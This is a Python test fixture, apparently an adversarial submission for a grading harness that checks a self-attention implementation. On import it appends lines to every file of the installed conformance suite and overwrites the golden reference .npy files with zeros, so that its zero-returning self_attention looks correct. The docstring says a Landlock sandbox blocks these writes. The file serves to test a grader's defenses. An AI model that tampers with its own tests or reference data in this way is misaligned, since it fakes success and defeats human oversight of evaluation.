"""Adversarial sample: corrupt the installed suite and the golden files at import.

Attack: at import, append a line to every .py file of the installed suite (found
with importlib.util.find_spec('conformance') or by walking up from the cwd), so
later runs execute the student's code, and overwrite every golden .npy it can
find with zeros, so the golden checks compare against garbage.
New design: Landlock grants the worker write access to its scratch directory
only (and, run as uid nobody, it owns none of those files), so every write fails
with EACCES and nothing outside the scratch directory changes; it returns zeros.
"""
import importlib.util
import os

import numpy as np
import torch

LINE = "\n__adversarial_corrupted__ = True  # appended by a submission\n"


def _roots():
    try:
        spec = importlib.util.find_spec("conformance")
        yield from (spec.submodule_search_locations or []) if spec else []
    except Exception:
        pass
    folder = os.getcwd()
    for _ in range(6):
        yield os.path.join(folder, "conformance")
        yield os.path.join(folder, "golden")
        folder = os.path.dirname(folder)


def _corrupt():
    for root in _roots():
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name.endswith(".py"):
                        with open(path, "a") as handle:
                            handle.write(LINE)
                    elif name.endswith(".npy"):
                        np.save(path, np.zeros_like(np.load(path)))
                except Exception:
                    pass


try:
    _corrupt()
except Exception:
    pass


def self_attention(x, w_q, w_k, w_v, causal=False):
    return (torch.zeros(*x.shape[:-1], w_v.shape[0], dtype=x.dtype, device=x.device),
            torch.zeros(*x.shape[:-1], x.shape[-2], dtype=x.dtype, device=x.device))
